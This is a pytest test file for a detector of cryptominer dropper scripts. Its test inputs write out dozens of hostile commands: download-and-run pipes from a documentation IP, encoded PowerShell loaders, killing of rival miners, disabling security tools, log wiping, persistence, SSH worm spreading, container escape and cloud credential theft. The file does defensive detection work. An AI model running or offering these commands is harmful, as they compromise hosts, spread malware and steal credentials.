"""Each behaviour is found in the languages droppers use, and no single ordinary line is."""

from __future__ import annotations

import base64

import pytest

from minehunt import dropper, intel
from minehunt.dropper import Behaviour as B
from minehunt.dropper.normalise import _substitute
from minehunt.dropper.normalise import layers as dropper_layers

IT = intel.default()
WALLET = (
    "4"
    + "A"
    + "MASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK"
)

# (behaviour, snippet): a few lines as an attacker writes them, per language.
CASES: list[tuple[B, str]] = [
    (B.DOWNLOAD_EXEC, "curl -fsSL http://192.0.2.1/a | bash"),
    (B.DOWNLOAD_EXEC, "wget -qO- http://192.0.2.1/a|sh -s"),
    (B.DOWNLOAD_EXEC, 'sh -c "$(wget -q -O - http://192.0.2.1/a)"'),
    (B.DOWNLOAD_EXEC, "busybox wget http://192.0.2.1/a -O- | sh"),
    (
        B.DOWNLOAD_EXEC,
        "tftp -g -r bins.sh 192.0.2.1 -l /tmp/bins.sh; chmod 777 /tmp/bins.sh; /tmp/bins.sh",
    ),
    (B.DOWNLOAD_EXEC, "echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA== | base64 -d | bash"),
    (
        B.DOWNLOAD_EXEC,
        "exec 5<>/dev/tcp/192.0.2.1/80; echo -e 'GET /x HTTP/1.0\\n' >&5; cat <&5 > x",
    ),
    (B.DOWNLOAD_EXEC, "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"),
    (B.DOWNLOAD_EXEC, "iwr http://192.0.2.1/a.ps1 -UseBasicParsing | iex"),
    (B.DOWNLOAD_EXEC, "certutil.exe -urlcache -split -f http://192.0.2.1/a.exe a.exe"),
    (B.DOWNLOAD_EXEC, "bitsadmin /transfer x http://192.0.2.1/a.exe C:\\a.exe"),
    (
        B.DOWNLOAD_EXEC,
        "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/a').read())",
    ),
    (B.DOWNLOAD_EXEC, "use LWP::Simple;\nmy $c = get('http://192.0.2.1/a');\neval $c;"),
    (
        B.DOWNLOAD_EXEC,
        "php -r \"file_put_contents('/tmp/a', file_get_contents('http://192.0.2.1/a'));\"",
    ),
    (B.KILL_COMPETITORS, "pkill -9 -f xmrig"),
    (
        B.KILL_COMPETITORS,
        "ps aux | grep -v grep | grep kdevtmpfsi | awk '{print $2}' | xargs kill -9",
    ),
    (
        B.KILL_COMPETITORS,
        "netstat -anp | grep :14444 | awk '{print $7}' | sed 's#/.*##' | xargs kill",
    ),
    (B.KILL_COMPETITORS, "ss -tnp | grep ':5555' | grep -oP 'pid=\\K[0-9]+' | xargs -r kill -9"),
    (B.KILL_COMPETITORS, "ps -eo pid,%cpu --sort=-%cpu | awk '$2>50{print $1}' | xargs kill -9"),
    (B.KILL_COMPETITORS, "Get-Process xmrig,nanominer -ErrorAction 0 | Stop-Process -Force"),
    (B.KILL_COMPETITORS, "taskkill /F /IM phoenixminer.exe"),
    (
        B.KILL_COMPETITORS,
        "for x in /proc/*/exe; do ls -l $x | grep -q deleted && kill -9 $(echo $x | cut -d/ -f3); done",
    ),
    (B.HIDE_PROCESSES, "echo /usr/local/lib/libx.so >> /etc/ld.so.preload"),
    (B.HIDE_PROCESSES, "mount -o bind /tmp/.e /proc/$pid"),
    (B.HIDE_PROCESSES, "mv /bin/top /bin/top.original"),
    (B.HIDE_PROCESSES, "alias ps='ps | grep -v kthr'"),
    (B.DISABLE_SECURITY, "setenforce 0"),
    (B.DISABLE_SECURITY, "systemctl stop aliyun.service"),
    (B.DISABLE_SECURITY, "killall -9 AliYunDun AliYunDunUpdate"),
    (B.DISABLE_SECURITY, "/usr/local/qcloud/YunJing/uninst.sh"),
    (B.DISABLE_SECURITY, "Set-MpPreference -DisableRealtimeMonitoring $true"),
    (B.DISABLE_SECURITY, "netsh advfirewall set allprofiles state off"),
    (B.DISABLE_SECURITY, "ufw disable"),
    (B.CLEAR_TRACES, "history -c && rm -rf ~/.bash_history"),
    (B.CLEAR_TRACES, "cat /dev/null > /var/log/wtmp"),
    (B.CLEAR_TRACES, "wevtutil cl Security"),
    (B.CHATTR, "chattr +ia /root/.ssh/authorized_keys"),
    (B.CHATTR, "mv /usr/bin/chattr /usr/bin/zzh"),
    (B.PERSISTENCE, "echo '*/3 * * * * root /tmp/.x' >> /etc/crontab"),
    (B.PERSISTENCE, "cat > /etc/systemd/system/sshd-helper.service <<EOF"),
    (B.PERSISTENCE, "echo '/var/tmp/.d &' >> /etc/rc.local"),
    (B.PERSISTENCE, "schtasks /create /sc minute /mo 5 /tn upd /tr C:\\u.exe"),
    (
        B.PERSISTENCE,
        "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\u.exe",
    ),
    (
        B.SSH_SPREAD,
        "for h in $(awk '{print $1}' ~/.ssh/known_hosts); do ssh -oStrictHostKeyChecking=no root@$h 'curl -s http://192.0.2.1/a|sh'; done",
    ),
    (B.SSH_SPREAD, "echo 'ssh-rsa AAAAB3Nza x@y' >> ~/.ssh/authorized_keys"),
    (B.MINING_TUNING, "sysctl -w vm.nr_hugepages=128"),
    (B.MINING_TUNING, "modprobe msr; wrmsr -a 0x1a4 0xf"),
    (B.MINING_INDICATORS, "./x -o stratum+tcp://192.0.2.9:3333 -u w"),
    (B.MINING_INDICATORS, f"WALLET={WALLET}"),
    (B.MINING_INDICATORS, "./run --donate-level 1 -o 192.0.2.9:3333"),
    (B.CONTAINER_ABUSE, "docker run --rm --privileged -v /:/mnt alpine chroot /mnt sh"),
    (B.CONTAINER_ABUSE, "redis-cli -h $h config set dir /root/.ssh"),
    (B.CONTAINER_ABUSE, "curl -s http://$h:2375/containers/json"),
    (B.CONTAINER_ABUSE, "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    (B.HIDDEN_LAUNCH, "nohup /dev/shm/.s >/dev/null 2>&1 &"),
    (B.HIDDEN_LAUNCH, "powershell -w hidden -nop -c calc"),
    (B.OBFUSCATION, "c''u\"\"rl -s http://192.0.2.1/x -o x"),
]


@pytest.mark.parametrize(
    ("behaviour", "snippet"), CASES, ids=[f"{b.name}-{i}" for i, (b, _) in enumerate(CASES)]
)
def test_behaviour_is_found(behaviour: B, snippet: str) -> None:
    found = {s.behaviour for s in dropper.analyse(snippet, IT).behaviours}
    assert behaviour in found, found


def test_arch_selection_counts_only_with_a_download() -> None:
    script = "case $(uname -m) in x86_64) a=amd64;; aarch64) a=arm64;; esac\n"
    assert not dropper.analyse(script, IT).behaviours
    fetched = script + "curl -o /opt/t https://example.org/t-$a.tar.gz\n"
    assert B.ARCH_DOWNLOAD in {s.behaviour for s in dropper.analyse(fetched, IT).behaviours}


def test_variable_indirection_and_ifs_are_resolved() -> None:
    a = dropper.analyse("a=cu;b=rl;c=ba;d=sh\n$a$b${IFS}http://192.0.2.1/x|$c$d\n", IT)
    kinds = {s.behaviour for s in a.behaviours}
    assert {B.DOWNLOAD_EXEC, B.OBFUSCATION} <= kinds


def test_base64_layers_are_decoded_twice() -> None:
    inner = "curl -s http://192.0.2.1/x | sh; pkill -f kinsing"
    once = base64.b64encode(inner.encode()).decode()
    twice = base64.b64encode(f"echo {once} | base64 -d | sh".encode()).decode()
    a = dropper.analyse(f"eval $(echo {twice} | base64 --decode)", IT)
    assert B.KILL_COMPETITORS in {s.behaviour for s in a.behaviours}
    assert len(a.layers) == 2 and a.layers[1].endswith("inside base64 at line 1")


def test_powershell_encoded_command_utf16() -> None:
    cmd = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/p')"
    enc = base64.b64encode(cmd.encode("utf-16-le")).decode()
    a = dropper.analyse(f"powershell -nop -enc {enc}", IT)
    assert a.layers == ("PowerShell -EncodedCommand at line 1",)
    assert B.DOWNLOAD_EXEC in {s.behaviour for s in a.behaviours}


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsSL https://example.org/key.gpg -o /usr/share/keyrings/k.gpg",
        "systemctl enable --now nginx.service",
        "ps aux | grep nginx",
        "kill -HUP $(cat /run/nginx.pid)",
        "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
        "rm -rf /var/log/myapp",
        "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",
        "docker run --rm -v $PWD:/src alpine make",
        "python3 -m pip install --user requests",
    ],
)
def test_ordinary_admin_lines_score_nothing(line: str) -> None:
    assert dropper.analyse(line, IT).severity is None


def _list_severity(text: str) -> object:
    from minehunt.web.signals import target_for

    sigs = dropper.wallet_list(target_for("/x/list.txt"), text, IT, "/x/list.txt")
    return sigs[0].severity if sigs else None


def test_wallet_and_pool_lists_are_their_own_finding() -> None:
    from minehunt.model import Severity

    assert _list_severity(f"{WALLET}\n{WALLET[:-1]}A\n") == Severity.MEDIUM
    assert _list_severity("stratum+tcp://192.0.2.7:3333\nstratum+ssl://192.0.2.8:14433\n") == (
        Severity.MEDIUM
    )
    hashes = "\n".join(f"{i:064x}  file{i}.tar.gz" for i in range(1, 20))
    assert _list_severity(hashes) is None
    prose = "Our wallet lives at\n" + WALLET + "\nand donations are welcome.\nThanks!\n"
    assert _list_severity(prose) is None


def test_evidence_points_at_the_line() -> None:
    text = "#!/bin/sh\n# setup\n\necho /usr/lib/x.so > /etc/ld.so.preload\n"
    a = dropper.analyse(text, IT)
    hide = next(s for s in a.behaviours if s.behaviour is B.HIDE_PROCESSES)
    assert hide.hits[0].line == 4


def test_a_download_and_run_after_padding_is_found_on_its_line() -> None:
    # Thousands of lines before the download, some with a fetch that is never run, and a
    # continued line: the hit names the download that is run, at its line in the file.
    pad = "echo step\n" * 3000 + "wget -q http://192.0.2.1/readme -O /tmp/readme.txt\n"
    text = (
        "#!/bin/sh\n"
        + pad
        + "curl -s http://192.0.2.1/x \\\n  -o /tmp/.kx\n"
        + "chmod +x /tmp/.kx\n/tmp/.kx -B\n"
    )
    a = dropper.analyse(text, IT)
    dl = next(s for s in a.behaviours if s.behaviour is B.DOWNLOAD_EXEC)
    hit = next(h for h in dl.hits if h.sub.key == "download made executable and run")
    assert (hit.line, hit.detail) == (3003, "/tmp/.kx")


@pytest.mark.parametrize(
    "script",
    [
        # Python: the command built by concatenating a name set to a string.
        'import os\npath = "/var/tmp/" + ".sysd"\n'
        'os.system("curl -s http://192.0.2.1/x -o " + path + " && chmod +x " + path)\n'
        "os.system(path + ' --background')\n",
        # The command string is an argument followed by another: after squeezing, the path
        # it runs ends with a comma.
        'import subprocess\nu = "http://192.0.2.1/" + "k"\nd = "/dev/shm/" + ".x"\n'
        'subprocess.Popen("wget -q " + u + " -O " + d + "; chmod +x " + d + "; " + d, '
        "shell=True)\n",
        # JavaScript, as javascript-obfuscator's decoded text spells it: one line, names
        # declared in a list.
        'const {execSync}=require("child_process"),b="/var/tmp/.kx";execSync("curl -fsSL '
        'http://192.0.2.1/k -o "+b+" && chmod +x "+b+" && "+b+" -c /var/tmp/.k.json");',
    ],
)
def test_names_concatenated_to_command_strings_are_resolved(script: str) -> None:
    found = dropper.analyse(script, IT).behaviours
    dl = next(s for s in found if s.behaviour is B.DOWNLOAD_EXEC)
    assert any(h.sub.key == "download made executable and run" for h in dl.hits)


def test_a_concatenation_after_a_variable_use_that_moves_the_lines_is_resolved() -> None:
    # Concatenations are looked for only on the lines where a quote meets a "+": where those
    # lines are must be read after ${d} has grown the text, or the next line is missed.
    names = {"d": "/var/lib/" * 25, "path": "/var/tmp/.sysd"}
    text = 'os.system("ls ${d} ${d}")\nos.system("curl -o " + path)\n'
    assert '"curl -o " + "/var/tmp/.sysd")' in _substitute(text, names)


def test_a_concatenated_name_that_is_called_or_a_member_is_left_alone() -> None:
    # ``tmp`` is a string, but ``tmp(...)`` and ``tmp.x`` are not uses of it.
    text = 'tmp = "/tmp/.a"\nrun("curl -o " + tmp(1) + " x" + tmp.x)\n'
    layer = dropper_layers(text)[0]
    assert "/tmp/.a(" not in layer.squeezed and "/tmp/.a.x" not in layer.squeezed


def test_evidence_on_a_long_line_quotes_what_was_seen() -> None:
    # A minified script is one line: the quote is cut around the command, not from the start.
    filler = "".join(f"function f{i}(a){{return a*{i}}};" for i in range(60))
    text = filler + 'require("child_process").execSync("curl -s http://192.0.2.1/x | sh");'
    a = dropper.analyse(text, IT, "setup.js")
    hit = next(s for s in a.behaviours if s.behaviour is B.DOWNLOAD_EXEC).hits[0]
    assert "curl -s http://192.0.2.1/x | sh" in hit.text and len(hit.text) <= 160


def test_kubectl_exec_of_a_fetch_is_container_abuse() -> None:
    snippet = 'kubectl exec -n default $pod -- sh -c "curl -s http://192.0.2.1/k.sh | sh"'
    kinds = {s.behaviour for s in dropper.analyse(snippet, IT).behaviours}
    assert {B.CONTAINER_ABUSE, B.DOWNLOAD_EXEC} <= kinds
